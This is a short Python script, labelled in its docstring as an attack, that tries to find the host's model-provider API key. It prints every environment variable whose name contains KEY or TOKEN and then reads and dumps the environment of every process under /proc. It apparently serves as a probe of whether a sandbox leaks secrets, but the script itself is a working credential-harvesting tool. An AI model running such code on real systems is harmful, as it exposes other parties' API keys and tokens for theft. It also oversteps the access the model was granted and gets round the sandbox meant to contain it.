"""Attack: find the host's provider API key in the environment or in other processes' environ."""

import os

print("env:", {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k})
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                print(pid, fh.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
